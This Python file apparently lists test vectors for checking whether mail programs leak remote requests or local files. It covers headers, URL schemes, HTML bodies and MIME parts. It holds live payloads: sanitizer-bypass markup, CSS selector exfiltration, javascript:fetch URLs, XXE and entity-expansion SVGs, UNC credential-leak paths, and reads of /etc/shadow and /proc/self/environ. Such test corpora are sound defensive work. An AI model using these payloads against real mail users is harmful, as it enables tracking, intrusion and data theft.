"""Ways in which a message asks for something apart from its HTML: header fields, receipts, schemes, other parts. HTM-262 to
HTM-280, and what of HTM-01 to HTM-39 (the 39 kinds that one tester of mail programs sends) is no element or style. @U is the
vector's own address, @H its host, @F a file that lies there to be found."""

# HTM-01 to HTM-39, in the catalogue's order; a key beginning with "header" or "part" goes elsewhere than in the body.
TESTER = [
    ("applet", '<applet archive="@U" code="x"></applet>'), ("atom", '<link rel="alternate" type="application/atom+xml" href="@U">'),
    ("audio", '<audio src="@U" autoplay></audio>'), ("background", '<body background="@U"><p>x'),
    ("background_image", '<p style="background-image:url(@U)">x</p>'), ("bgsound", '<bgsound src="@U">'),
    ("css", '<link rel="stylesheet" type="text/css" href="@U">'), ("css_attachment", '<link rel="stylesheet" href="cid:css">'),
    ("css_behavior", '<p style="behavior:url(@U)">x</p>'), ("css_content", '<style>p:after{content:url(@U)}</style><p>x'),
    ("css_import", '<style>@import url(@U);</style>'), ("header disposition_notification", "Disposition-Notification-To: <r@@H>"),
    ("dns_anchor", '<a href="http://@H/">x</a>'), ("dns_link", '<link rel="dns-prefetch" href="//@H">'),
    ("link_prefetch", '<link rel="prefetch" href="@U">'), ("flash", '<object type="application/x-shockwave-flash" data="@U">'
     '<embed src="@U"></object>'), ("font_face", '<style>@font-face{font-family:x;src:url(@U)}p{font-family:x}</style><p>x'),
    ("iframe", '<iframe src="@U"></iframe>'), ("iframe_refresh", '<iframe src="data:text/html;base64,PG1ldGEgaHR0cC1lcXVpdj1yZWZyZ'
     'XNoIGNvbnRlbnQ9IjA7aHR0cDovL3YwMTkubGVhay50ZXN0LyI+"></iframe>'), ("iframe_img", '<iframe src="data:text/html,<img '
     'src=@U>"></iframe>'), ("img", '<img src="@U">'), ("img_srcset", '<img srcset="@U 1x">'), ("image_submit", '<form><input '
     'type="image" src="@U"></form>'), ("js", '<script>document.write("<img src=@U>")</script>'), ("script_in_script",
     '<script><script>new Image().src="@U"</script></script>'), ("svg_background_img", '<img src="cid:svg">'),
    ("svg_inline_image", '<svg><image xlink:href="@U"/></svg>'), ("manifest", '<html manifest="@U"><link rel="manifest" href="@U">'),
    ("meta_refresh", '<meta http-equiv="refresh" content="1; url=@U">'), ("object_data", '<object data="@U"></object>'),
    ("opensearch", '<link rel="search" type="application/opensearchdescription+xml" href="@U">'), ("header return_receipt",
     "Return-Receipt-To: r@@H"), ("rss", '<link rel="alternate" type="application/rss+xml" href="@U">'), ("video",
     '<video src="@U" autoplay></video>'), ("video_poster", '<video poster="@U"></video>'), ("video_mp4", '<video autoplay><source '
     'type="video/mp4" src="@U"></video>'), ("video_webm", '<video autoplay><source type="video/webm" src="@U"></video>'),
    ("video_ogg", '<video autoplay><source type="video/ogg" src="@U"></video>'), ("view_source", '<iframe '
     'src="view-source:@U"></iframe><img src="view-source:@U">'),
]

# HTM-264 and HTM-265: fields that some program follows without being asked.
HEADERS = ["X-Confirm-Reading-To: r@@H", "X-PMRQC: 1\r\nGenerate-Delivery-Report: r@@H", "Return-Receipt-Requested: r@@H",
           "X-Mozilla-External-Attachment-URL: @U\r\nX-Mozilla-Altered: AttachmentDetached", "X-Mozilla-Cloud-Part: cloudFile; "
           "url=@U", "X-Image-URL: @U", "X-Face-URL: @U", "Face: iVBORw0KGgo=\r\nX-Face: ~x", "Avatar-Location: @U", "BIMI-Location: "
           "v=BIMI1; l=@U", "BIMI-Indicator: PHN2Zz48L3N2Zz4=\r\nBIMI-Selector: v=BIMI1; s=@H", "List-Unsubscribe: <@U>\r\n"
           "List-Unsubscribe-Post: List-Unsubscribe=One-Click", "List-Archive: <@U>\r\nList-Help: <@U>\r\nList-Post: <@U>\r\n"
           "List-Owner: <@U>", "Archived-At: <@U>\r\nContent-Location: @U\r\nContent-Base: @U", "Link: <@U>; rel=preload",
           "Autocrypt: addr=r@@H; keydata=AAAA", "OpenPGP: id=1; url=@U; preference=sign", "X-HTTP-Header: @U\r\nRefresh: 0;url=@U",
           "DKIM-Signature: v=1; a=rsa-sha256; d=@H; s=x; h=from; bh=x; b=x", "Received-SPF: pass (@H)\r\n"
           "ARC-Seal: i=1; d=@H; s=x; b=x", "Message-Context: x\r\nX-Report-Abuse: <@U>\r\nFeedback-ID: @U", "Jabber-ID: r@@H\r\n"
           "X-URL: @U\r\nX-Homepage: @U", "Require-Recipient-Valid-Since: r@@H\r\nX-Unsubscribe-Web: @U"]

# HTM-266 and HTM-267: what an address may begin with.
SCHEMES = ["ftp://@H/x", "ftps://@H/x", "gopher://@H/x", "ldap://@H/x", "dav://@H/x", "sftp://r@@H/x", "smb://@H/share/x.png",
           "\\\\@H\\share\\x.png", "//@H/x.png", "file://@H/share/x.png", "file://@F", "file:@F", "@F", "FILE:///@F",
           "file:///etc/shadow", "file:///dev/zero", "file:///proc/self/mem", "file:///proc/self/environ", "fifo:@F.fifo",
           "file://@F.fifo", "file:///net/@H/x", "qrc:/icons/mail.svg", ":/icons/mail.svg", "qrc:///../../@F", "data:text/html,<img "
           "src='@U'>", "data:image/svg+xml;utf8,<svg xmlns='http://www.w3.org/2000/svg'><image href='@U'/></svg>",
           "cid:other@message", "cid:..%2f..%2f@F", "cid:css", "cid:self", "mid:some@@H", "imap://@H/INBOX", "imaps://@H/x",
           "mailbox:///@F?number=1", "mailbox-message://r@@H/Inbox#1", "news:x@@H", "nntp://@H/x", "about:blank", "about:memory",
           "javascript:fetch('@U')", "vbscript:x", "blob:@U", "filesystem:@U/x", "view-source:@U", "jar:@U!/x.png", "wyciwyg://@U",
           "resource://x", "chrome://x", "moz-icon://@F?size=16", "ms-office:@U", "search-ms:query=x&crumb=location:\\\\@H\\x",
           "feed:@U", "steam://@H", "tel:+1", "mailto:r@@H?attach=@F", "x-oss://@H", "ws://@H/x", "wss://@H/x", "http://[::1]/@H",
           "http://127.0.0.1:9/@H", "http://0x7f000001/@H", "https://r:s@@H/x"]

# HTM-262, HTM-263, HTM-268 to HTM-275, HTM-278, HTM-279: bodies.
BODIES = [
    ("262 nested srcdoc", '<iframe srcdoc="<iframe srcdoc=&quot;<iframe srcdoc=&amp;quot;<img src=@U>&amp;quot;></iframe>&quot;>'
     '</iframe>"></iframe>'),
    ("263 quoted", '<blockquote type="cite"><meta http-equiv="refresh" content="0;url=@U"><video poster="@U"></video><object '
     'data="@U"></object></blockquote>'),
    ("268 unclosed cid", '<img src="cid:missing"><img src="cid:self"><link rel=stylesheet href="cid:css">'
     + '<img src="cid:png">' * 200),
    ("269 redirecting", '<img src="@U/redirect?to=@U"><img src="@U" referrerpolicy="unsafe-url" crossorigin="use-credentials">'),
    ("270 unclosed", '<p>secret</p><img src="@U?'), ("270 plaintext", '<plaintext><img src="@U">'), ("270 style", '<style><img src="'
     '@U">'), ("270 textarea", '<textarea><img src="@U">'), ("270 title", '<title><img src="@U">'), ("270 xmp", '<xmp><img src="@U">'),
    ("271 enter", '<form action="@U"><input name=a autofocus><input type=image src="@U"><button formaction="@U">x</form>'),
    ("272 remote style", '<link rel=stylesheet href="@U" media="all"><p class=kobold>x</p><style>@media print{p{background:url(@U)}}'
     '</style>'), ("273 exfiltration", '<style>a[href*="s"]{background:url(@U?s)}input[value^="a"]{background:url(@U?a)}</style><a '
     'href="secret">x</a>'), ("274 redress", '<div style="position:fixed;top:-200px;left:-200px;z-index:2147483647;'
     'width:1000000000px;height:1000000000px;font-size:100000000px;background:url(@U)">x</div>'),
    ("275 svg style", '<svg></p><style><a id="</style><img src=@U>">'), ("275 math", '<math><mtext><table><mglyph><style><img '
     'src=@U></style></mglyph></table></mtext></math>'), ("275 select", '<select><template><img src=@U></template></select>'),
    ("275 noscript", '<noscript><p title="</noscript><img src=@U>">'), ("275 title", '<title><p title="</title><img src=@U>">'),
    ("275 comment", '<!--!><img src="@U"><!--> --><img src="@U"><!---!><img src="@U">'), ("275 nul", '<i\0mg src="@U"><img\0 '
     'src="@U"><img src="ht\0tp://@H/x">'), ("275 scr nul ipt", '<scr\0ipt>new Image().src="@U"</scr\0ipt>'),
    ("275 no space", '<img/src=@U><img"x"src=@U><img src=x/onerror=fetch("@U")>'), ("275 entities", '<a '
     'href="java&#10;script:fetch(\'@U\')">x</a><img src="&#x68;ttp://@H/x">'), ("275 double attribute", '<img src="cid:png" '
     'src="@U"><a href="#" href="@U">x</a>'), ("275 cdata", '<![CDATA[<img src="@U">]]><svg><![CDATA[<img src="@U">]]></svg>'),
    ("275 utf7", '+ADw-img src=+ACI-@U+ACI-+AD4-'), ("275 bogus end", '</ <img src="@U">><//img src="@U">'),
    ("278 preview", 'See @U and <a href="@U" title="@U">@U</a> http://@H www.@H @H r@@H'),
    ("279 dns", '<meta http-equiv="x-dns-prefetch-control" content="on"><link rel="dns-prefetch" href="//@H"><link '
     'rel="preconnect" href="//@H"><a href="//@H/">x</a>'),
    ("280 unsubscribe", '<a href="@U/unsubscribe">Unsubscribe</a><a href="mailto:off@@H?subject=off">off</a>'),
]

# HTM-40, HTM-264: parts that are no HTML. Type and content; some beside HTML that refers to them.
PARTS = [
    ("text/x-amp-html", '<!doctype html><html amp4email><head><script async src="@U"></script></head><body><amp-img src="@U" '
     'width=1 height=1></amp-img></body></html>'),
    ("text/calendar; method=REQUEST", 'BEGIN:VCALENDAR\r\nVERSION:2.0\r\nMETHOD:REQUEST\r\nBEGIN:VEVENT\r\nUID:x@@H\r\n'
     'DTSTART:20261015T013000Z\r\nORGANIZER:mailto:r@@H\r\nATTACH:@U\r\nATTACH;VALUE=URI:file://@F\r\nURL:@U\r\nIMAGE;VALUE=URI:@U'
     '\r\nCONFERENCE;VALUE=URI:@U\r\nBEGIN:VALARM\r\nACTION:PROCEDURE\r\nATTACH:@U\r\nTRIGGER:-PT5M\r\nEND:VALARM\r\nEND:VEVENT\r\n'
     'END:VCALENDAR\r\n'),
    ("text/vcard", 'BEGIN:VCARD\r\nVERSION:4.0\r\nFN:X\r\nPHOTO:@U\r\nLOGO;VALUE=uri:@U\r\nSOUND:@U\r\nKEY:@U\r\nSOURCE:@U\r\nURL:@U'
     '\r\nCALURI:@U\r\nEND:VCARD\r\n'),
    ("image/svg+xml", '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="@U"/>'
     '<script>fetch("@U")</script><style>@import "@U";</style></svg>'),
    ("image/svg+xml", '<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY x SYSTEM "file://@F">]>'
     '<svg xmlns="http://www.w3.org/2000/svg"><text>&b;&x;</text></svg>'),
    ("text/xml", '<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="@U"?><!DOCTYPE x SYSTEM "@U" [<!ENTITY e SYSTEM '
     '"@U">]><x>&e;</x>'),
    ("text/html", '<html manifest="@U"><img src="@U"><script src="@U"></script></html>'),
    ("text/css", '@import "@U";p{background:url(@U)}'),
    ("message/external-body; access-type=URL; URL=\"@U\"", 'Content-Type: image/png\r\nContent-ID: <x@@H>\r\n\r\n'),
    ("message/external-body; access-type=local-file; name=\"@F\"", 'Content-Type: text/plain\r\n\r\n'),
    ("message/external-body; access-type=anon-ftp; site=\"@H\"; name=\"x\"", 'Content-Type: text/plain\r\n\r\n'),
    ("message/partial; id=\"x@@H\"; number=1; total=2", 'From: r@@H\r\n\r\nfirst half\r\n'),
    ("message/disposition-notification", 'Reporting-UA: x\r\nFinal-Recipient: rfc822;r@@H\r\nDisposition: '
     'manual-action/MDN-sent-manually; displayed\r\n'),
    ("application/pkcs7-mime; smime-type=signed-data; name=smime.p7m", 'MIIB@U'),
    ("application/pgp-keys", '-----BEGIN PGP PUBLIC KEY BLOCK-----\r\nComment: @U\r\n\r\n=AAAA\r\n-----END PGP PUBLIC KEY BLOCK-----'),
    ("application/x-mswinurl; name=x.url", '[InternetShortcut]\r\nURL=@U\r\nIconFile=\\\\@H\\x.ico\r\n'),
    ("application/x-desktop; name=x.desktop", '[Desktop Entry]\r\nType=Link\r\nURL=@U\r\nIcon=@F\r\n'),
    ("text/x-vnd.opensearch; name=x.library-ms", '<libraryDescription><simpleLocation><url>\\\\@H\\x</url></simpleLocation>'
     '</libraryDescription>'),
    ("text/rtf; name=x.rtf", '{\\rtf1{\\field{\\*\\fldinst INCLUDEPICTURE "@U"}}}'),
    ("text/enriched", '<x-url>@U</x-url><bold>x</bold>'), ("text/markdown", '![x](@U) <img src="@U">'),
    ("text/uri-list", '@U\r\nfile://@F\r\n'), ("audio/x-mpegurl; name=x.m3u", '#EXTM3U\r\n@U\r\n'),
]
